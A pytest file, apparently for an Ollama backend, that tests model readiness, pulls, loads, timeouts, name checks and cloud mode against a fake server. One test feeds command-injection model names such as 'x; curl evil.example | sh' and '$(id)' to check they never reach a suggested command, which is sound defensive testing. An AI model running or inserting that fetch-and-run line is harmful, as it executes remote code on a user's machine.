"""Whether Ollama and its models are there, as they come and go."""

import asyncio
import json
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import msgspec
import pytest

from ollama_backend import settings
from ollama_backend.errors import ModelNotFound, ModelNotReady, OllamaFailed, OllamaTimeout, OllamaUnavailable
from ollama_backend.ollama.client import OllamaClient
from ollama_backend.ollama.engine.supervisor import Engine
from ollama_backend.ollama.readiness.pull import FIRST_PAUSE
from ollama_backend.ollama.readiness.watcher import Readiness
from tests.support.fake_ollama import FakeOllama
from tests.support.fake_ollama.catalogue import Pull
from tests.support.fake_ollama.models import Model, as_model
from tests.support.fake_ollama.script import Reply
from tests.support.waiting import until

HELLO = {"role": "user", "content": "hello"}


@asynccontextmanager
async def watched(
    host: str,
    *,
    address: str | None = None,
    client: OllamaClient | None = None,
    pull_pause: float = FIRST_PAUSE,
    **environment: str,
) -> AsyncIterator[Readiness]:
    """Watch an Ollama for the length of a block; `address` is where questions go when the host is only a name."""
    chosen = settings.load({"OLLAMA_HOST": host, "OLLAMA_MODEL": "guide", "PATH": "/nowhere", **environment})
    client = client or OllamaClient(address or chosen.host, chosen.cloud_key)
    engine = Engine(chosen, client)
    readiness = Readiness(chosen, client, engine, pull_pause=pull_pause)
    tasks = [asyncio.create_task(part.run()) for part in (engine, readiness)]
    try:
        yield readiness
    finally:
        await engine.stop()
        for task in tasks:
            task.cancel()
        await asyncio.wait(tasks)
        await client.close()


def health(readiness: Readiness) -> tuple[int, dict[str, Any]]:
    """What `/health` would answer."""
    return (200 if readiness.status == "ok" else 503), msgspec.to_builtins(readiness.health())


async def reach(readiness: Readiness, status: str) -> None:
    """Wait until the status is so, told of every change and never polling."""
    async with asyncio.timeout(30):
        while readiness.status != status:
            await readiness.changes.wait()


def count_requests(fake: FakeOllama, path: str) -> int:
    """Count the requests for a path."""
    return sum(request.path == path for request in fake.requests)


async def test_an_installed_model_is_ok_and_loaded_once(fake_ollama: FakeOllama) -> None:
    """An owned Ollama that has the model is ok at once, and the model is loaded by one request of ours."""
    async with watched(fake_ollama.url) as readiness:
        assert health(readiness)[0] == 503
        await reach(readiness, "ok")
        assert health(readiness) == (
            200,
            {"status": "ok", "model": "guide", "engine": "ollama", "version": "0.33.0"},
        )
        await readiness.loaded(readiness.resolve(None))
        await readiness.loaded("guide")
        assert len(fake_ollama.loads) == 1
        assert [model.name for model in readiness.models] == ["guide:latest"]
        assert "completion" in readiness.models[0].capabilities


async def test_a_missing_model_is_pulled_with_its_progress(fake_ollama: FakeOllama) -> None:
    """On an owned Ollama a missing default model is pulled: percent and bytes are told, the others work meanwhile."""
    model = as_model("qwen3:4b")
    model.size = 2_500_000_000
    fake_ollama.registry["qwen3:4b"] = Pull(model, seconds=2.0, steps=40)
    async with watched(fake_ollama.url, OLLAMA_MODEL="qwen3:4b") as readiness:
        await until(lambda: readiness.health().completed, "bytes have come")
        status, body = health(readiness)
        assert (status, body["status"], body["total"]) == (503, "pulling", model.size)
        assert 0 < body["completed"] < body["total"]
        assert "of 2.5 GB" in body["reason"]
        with pytest.raises(ModelNotReady, match=r"being pulled: .* %") as caught:
            readiness.resolve(None)
        assert caught.value.retry_after
        assert readiness.resolve("GUIDE") == "guide:latest"
        await reach(readiness, "ok")
        assert readiness.resolve(None) == "qwen3:4b"
        await until(lambda: fake_ollama.loads, "the new model is loaded")


async def test_a_missing_model_on_a_foreign_ollama_is_only_told(fake_ollama: FakeOllama) -> None:
    """What is not owned is not changed: the missing model is told with the command that helps, others work."""
    async with watched(fake_ollama.url, OLLAMA_MODEL="qwen3:4b", CHAT_OWNS_OLLAMA="no") as readiness:
        await reach(readiness, "unavailable")
        status, body = health(readiness)
        assert (status, body["version"]) == (503, "0.33.0")
        assert "`ollama pull qwen3:4b`" in body["reason"]
        with pytest.raises(ModelNotFound, match=r"ollama pull qwen3:4b.* guide"):
            readiness.resolve(None)
        assert readiness.resolve("guide") == "guide"
        await readiness.loaded("guide:latest")
        assert fake_ollama.pulls == []


@pytest.mark.parametrize(
    ("error", "words"),
    [
        (
            "max retries exceeded: write /root/.ollama/models/blobs/sha256-1: no space left on device",
            "the disk is full",
        ),
        ("open /root/.ollama/models/blobs: permission denied", "may not write"),
        ('Get "https://registry.ollama.ai/v2/": dial tcp 104.21.75.227:443: i/o timeout', "cannot be reached"),
        ("something new under the sun", "something new under the sun"),
    ],
)
async def test_a_failed_pull_is_told_in_words(fake_ollama: FakeOllama, error: str, words: str) -> None:
    """Why a pull failed is said for people, without a folder or an address, and that it is tried again."""
    fake_ollama.offer("qwen3:4b", error=error, seconds=0.01)
    async with watched(fake_ollama.url, OLLAMA_MODEL="qwen3:4b") as readiness:
        await until(lambda: "could not be pulled" in readiness.reason, "the failure is told")
        assert readiness.status == "unavailable"
        assert words in readiness.reason
        assert "Retrying in 5 seconds" in readiness.reason
        assert "/root" not in readiness.reason
        assert "104.21" not in readiness.reason
        with pytest.raises(ModelNotReady) as caught:
            readiness.resolve(None)
        assert caught.value.retry_after == pytest.approx(5, abs=1)


async def test_a_pull_without_internet_is_tried_again(fake_ollama: FakeOllama) -> None:
    """Without internet the reason is said; when it is back, so is the model, without a restart."""
    fake_ollama.offline = True
    fake_ollama.offer("qwen3:4b", seconds=0.01)
    async with watched(fake_ollama.url, OLLAMA_MODEL="qwen3:4b", pull_pause=0.5) as readiness:
        await until(lambda: "check this machine's connection to the internet" in readiness.reason, "the failure")
        fake_ollama.offline = False
        await reach(readiness, "ok")
        assert fake_ollama.pulls == ["qwen3:4b", "qwen3:4b"]


async def test_a_name_that_the_registry_does_not_know_is_not_found(fake_ollama: FakeOllama) -> None:
    """A model that nobody has is a 404, not a promise to wait for."""
    async with watched(fake_ollama.url, OLLAMA_MODEL="qwen3:4bb") as readiness:
        await until(lambda: "could not be pulled" in readiness.reason, "the failure is told")
        with pytest.raises(ModelNotFound, match="no model of this name"):
            readiness.resolve(None)


@pytest.mark.long
async def test_gone_and_back_are_states(fake_ollama: FakeOllama) -> None:
    """An Ollama that goes is told within the pause between two looks, and used again when it is back."""
    async with watched(fake_ollama.url) as readiness:
        await reach(readiness, "ok")
        assert readiness.epoch == 1
        await until(lambda: fake_ollama.loads, "the first load")
        await fake_ollama.stop()
        await reach(readiness, "unavailable")
        assert "ollama serve" in readiness.reason
        assert "127.0.0.1" not in readiness.reason
        assert health(readiness)[1].get("version") is None
        with pytest.raises(OllamaUnavailable, match="does not answer") as caught:
            readiness.resolve(None)
        assert caught.value.retry_after
        await fake_ollama.start()
        await reach(readiness, "ok")
        await until(lambda: len(fake_ollama.loads) == 2, "it is loaded again")
        assert readiness.epoch == 2


async def test_a_suspicion_is_looked_into_at_once(fake_ollama: FakeOllama) -> None:
    """Whoever finds nobody there need not wait for the next look."""
    async with watched(fake_ollama.url) as readiness:
        await reach(readiness, "ok")
        await until(lambda: readiness.is_loaded("guide"), "loaded")
        await fake_ollama.stop()
        began = time.monotonic()
        readiness.suspect()
        await reach(readiness, "unavailable")
        assert time.monotonic() - began < 2  # the next look would come after 3


@pytest.mark.long
async def test_an_ollama_that_answers_is_not_asked_whether_it_is_there(fake_ollama: FakeOllama) -> None:
    """A running answer is proof enough; after its end the checks go on."""
    fake_ollama.script(content=["word "] * 90, thinking="", token_delay=0.05)
    client = OllamaClient(fake_ollama.url)
    async with watched(fake_ollama.url, client=client, CHAT_OWNS_OLLAMA="no") as readiness:
        await reach(readiness, "ok")
        checks = count_requests(fake_ollama, "/api/version")
        began = time.monotonic()
        await client.feed_chat({"model": "guide", "messages": [HELLO]}, lambda chunks: None)
        assert time.monotonic() - began > 4
        assert count_requests(fake_ollama, "/api/version") == checks
        await until(lambda: count_requests(fake_ollama, "/api/version") > checks, "the next check")


async def test_one_load_serves_all_and_outlives_its_waiters(fake_ollama: FakeOllama) -> None:
    """Ten waiters share one load; those who leave do not end it."""
    fake_ollama.install(Model("slow", load_seconds=0.5))
    async with watched(fake_ollama.url) as readiness:
        await reach(readiness, "ok")
        waiters = [asyncio.create_task(readiness.loaded("slow")) for _ in range(10)]
        await until(lambda: "slow:latest" in [load.model for load in fake_ollama.loads], "it is being loaded")
        for waiter in waiters[:9]:
            waiter.cancel()
        await waiters[9]
        loads = [load for load in fake_ollama.loads if load.model == "slow:latest"]
        assert [load.outcome for load in loads] == ["loaded"]
        assert readiness.is_loaded("slow")
        for waiter in waiters[:9]:
            waiter.cancel()
        last = asyncio.create_task(readiness.loaded("slow"))
        await last
        assert count_requests(fake_ollama, "/api/chat") == 2


async def test_a_load_goes_on_without_any_waiter(fake_ollama: FakeOllama) -> None:
    """When all who wait for a load have left, it is completed nevertheless."""
    fake_ollama.install(Model("slow", load_seconds=0.3))
    async with watched(fake_ollama.url) as readiness:
        await reach(readiness, "ok")
        waiter = asyncio.create_task(readiness.loaded("slow"))
        await until(lambda: "slow:latest" in [load.model for load in fake_ollama.loads], "it is being loaded")
        waiter.cancel()
        await until(lambda: readiness.is_loaded("slow"), "it is loaded")
        assert fake_ollama.loads[-1].outcome == "loaded"


async def test_a_load_that_takes_too_long_is_given_up(fake_ollama: FakeOllama) -> None:
    """OLLAMA_LOAD_TIMEOUT bounds a load, and every waiter is told."""
    fake_ollama.install(Model("slow", load_seconds=5))
    async with watched(fake_ollama.url, OLLAMA_LOAD_TIMEOUT="300ms") as readiness:
        await reach(readiness, "ok")
        with pytest.raises(OllamaTimeout, match="not loaded within"):
            await readiness.loaded("slow")


@pytest.mark.parametrize("longest", ["0", "-1s"])
async def test_a_load_may_take_any_time(fake_ollama: FakeOllama, longest: str) -> None:
    """With an OLLAMA_LOAD_TIMEOUT of zero or less, as in Ollama."""
    gate = asyncio.Event()
    fake_ollama.install(Model("slow", load_gate=gate))
    async with watched(fake_ollama.url, OLLAMA_LOAD_TIMEOUT=longest) as readiness:
        await reach(readiness, "ok")
        waiter = asyncio.create_task(readiness.loaded("slow"))
        await until(lambda: "slow:latest" in [load.model for load in fake_ollama.loads], "it is being loaded")
        assert not waiter.done()
        gate.set()
        await waiter
        assert readiness.is_loaded("slow")


async def test_a_failed_load_is_told_and_can_be_tried_again(fake_ollama: FakeOllama) -> None:
    """A load that fails raises Ollama's words; the state keeps them until a load succeeds."""
    broken = fake_ollama.install(Model("broken", load_error="llama-server process has terminated: signal: killed"))
    async with watched(fake_ollama.url, OLLAMA_MODEL="broken") as readiness:
        await until(lambda: "process ended" in readiness.reason, "the failed warm-up is told")
        assert readiness.status == "ok"
        with pytest.raises(OllamaFailed, match="process ended"):
            await readiness.loaded("broken")
        broken.load_error = None
        await readiness.loaded("broken")
        assert readiness.reason == ""


async def test_an_answer_says_that_its_model_is_loaded(fake_ollama: FakeOllama) -> None:
    """A chunk is proof enough: no request is made for a model that has just been used; a freed one is loaded again."""
    async with watched(fake_ollama.url, CHAT_OWNS_OLLAMA="no") as readiness:
        await reach(readiness, "ok")
        readiness.used("guide:latest")
        await readiness.loaded("guide")
        assert count_requests(fake_ollama, "/api/chat") == 0
        readiness.unloaded("guide:latest")
        await readiness.loaded("guide")
        assert count_requests(fake_ollama, "/api/chat") == 1


@pytest.mark.long
async def test_a_model_that_ollama_lets_go_is_known_to_be_gone() -> None:
    """`/api/ps` is asked while a model is believed loaded; once it is not listed, the next answer loads it again."""
    async with FakeOllama(keep_alive_seconds=1) as fake, watched(fake.url) as readiness:
        await reach(readiness, "ok")
        async with asyncio.timeout(30):
            while len(fake.loads) < 2:
                await readiness.loaded("guide")
                await asyncio.sleep(0.01)
        assert count_requests(fake, "/api/ps") >= 1


async def test_only_allowed_models_can_be_named(fake_ollama: FakeOllama) -> None:
    """CHAT_MODELS limits what is listed and named; names are compared as Ollama does."""
    fake_ollama.install("other")
    fake_ollama.install("secret")
    async with watched(fake_ollama.url, CHAT_MODELS="library/Guide:latest, other") as readiness:
        await reach(readiness, "ok")
        assert {model.name for model in readiness.models} == {"guide:latest", "other:latest"}
        assert readiness.resolve("Other") == "other:latest"
        assert readiness.resolve("registry.ollama.ai/library/GUIDE") == "guide:latest"
        with pytest.raises(ModelNotFound, match="may not be used here") as caught:
            readiness.resolve("secret")
        assert "Choose one of: " in caught.value.message
        assert "guide" in caught.value.message


@pytest.mark.parametrize("name", ["x; curl evil.example | sh", "a\nb", "$(id)", "`id`"])
async def test_no_command_is_made_of_what_is_no_name(fake_ollama: FakeOllama, name: str) -> None:
    """Whoever copies it from the message would run it."""
    async with watched(fake_ollama.url) as readiness:
        await reach(readiness, "ok")
        with pytest.raises(ModelNotFound) as caught:
            readiness.resolve(name)
    assert "ollama pull" not in caught.value.message and "Choose one of: " in caught.value.message


async def test_a_model_added_by_hand_is_found_after_a_miss(fake_ollama: FakeOllama) -> None:
    """A name that is not installed makes the list be asked anew, so that it works soon after `ollama pull`."""
    async with watched(fake_ollama.url) as readiness:
        await reach(readiness, "ok")
        with pytest.raises(ModelNotFound, match="ollama pull later"):
            readiness.resolve("later")
        fake_ollama.install("later")

        def found() -> bool:
            try:
                return readiness.resolve("later") == "later"
            except ModelNotFound:
                return False

        await until(found, "the new model is known")


async def test_capabilities_are_asked_where_the_list_lacks_them(fake_ollama: FakeOllama) -> None:
    """An older Ollama lists no capabilities: each model is asked once, and remembered."""
    row = {"name": "guide:latest", "size": 1, "details": None}
    fake_ollama.replies["/api/tags"] = Reply(200, json.dumps({"models": [row]}).encode(), "application/json")
    async with watched(fake_ollama.url) as readiness:
        await until(lambda: readiness.models and "thinking" in readiness.models[0].capabilities, "they are known")
        before = count_requests(fake_ollama, "/api/tags")
        readiness.list_again()
        await until(lambda: count_requests(fake_ollama, "/api/tags") > before, "listed again")
        assert count_requests(fake_ollama, "/api/show") == 1


async def test_each_follower_is_told_of_a_change(fake_ollama: FakeOllama) -> None:
    """Every follower has a waiter of its own; one that leaves takes nothing from the others."""
    async with watched(fake_ollama.url) as readiness:
        first, second, third = (asyncio.create_task(readiness.changes.wait()) for _ in range(3))
        await asyncio.sleep(0)
        second.cancel()
        await asyncio.wait_for(asyncio.gather(first, third), 5)
        assert second.cancelled()


async def test_a_list_that_fails_is_a_reason(fake_ollama: FakeOllama) -> None:
    """An Ollama that answers but cannot list its models is not ok, and says why."""
    fake_ollama.replies["/api/tags"] = Reply(500, b'{"error":"models are on strike"}', "application/json")
    async with watched(fake_ollama.url) as readiness:
        await reach(readiness, "unavailable")
        assert "models are on strike" in readiness.reason
        with pytest.raises(OllamaUnavailable, match="on strike"):
            readiness.resolve(None)


async def test_a_stranger_at_a_remote_host_is_named(fake_ollama: FakeOllama) -> None:
    """What answers but is no Ollama is told as such."""
    fake_ollama.replies["/api/version"] = Reply(200)
    async with watched("http://ollama.invalid", address=fake_ollama.url) as readiness:
        await until(lambda: "does not follow Ollama's protocol" in readiness.reason, "it is told")


async def test_a_server_without_the_route_of_its_version_is_used(fake_ollama: FakeOllama) -> None:
    """Some servers that speak Ollama's protocol have no `/api/version`; their list of models tells what they are."""
    fake_ollama.replies["/api/version"] = Reply(404, b'{"detail":"Not Found"}', "application/json")
    async with watched(fake_ollama.url) as readiness:
        await reach(readiness, "ok")
        assert "version" not in health(readiness)[1]


async def test_the_cloud_is_neither_pulled_from_nor_warmed() -> None:
    """On Ollama's cloud nothing is pulled, loaded or asked about loads; names work with and without `-cloud`."""
    async with FakeOllama(["deepseek-v3.1:671b", "gpt-oss:120b"], cloud=True) as fake:
        given = {"OLLAMA_MODEL": "", "OLLAMA_CLOUD_API_KEY": "cloud-key"}
        async with watched("https://ollama.com", address=fake.url, **given) as readiness:
            await reach(readiness, "ok")
            assert readiness.model == "deepseek-v3.1:671b-cloud"
            assert readiness.resolve(None) == "deepseek-v3.1:671b"
            assert readiness.resolve("GPT-OSS:120b-cloud") == "gpt-oss:120b"
            with pytest.raises(ModelNotFound):
                readiness.resolve("nothing")
            await readiness.loaded("deepseek-v3.1:671b")
            fake.remove("deepseek-v3.1:671b")
            before = count_requests(fake, "/api/tags")
            readiness.list_again()
            await until(lambda: count_requests(fake, "/api/tags") > before, "listed again")
            assert readiness.resolve(None) == "deepseek-v3.1:671b"
            paths = {request.path for request in fake.requests}
            assert paths <= {"/api/version", "/api/tags", "/api/show"}


async def test_an_embedded_engine_found_in_place_of_ollama_is_known_for_one() -> None:
    """The embedded engine of another process, at OLLAMA_HOST, is not asked to pull: the default is what it serves."""
    async with FakeOllama(version="0.0.0-embedded") as fake, watched(fake.url, OLLAMA_MODEL="qwen3:4b") as readiness:
        await reach(readiness, "ok")
        assert readiness.model == "guide"
        assert health(readiness)[1]["engine"] == "embedded"
        assert fake.pulls == []
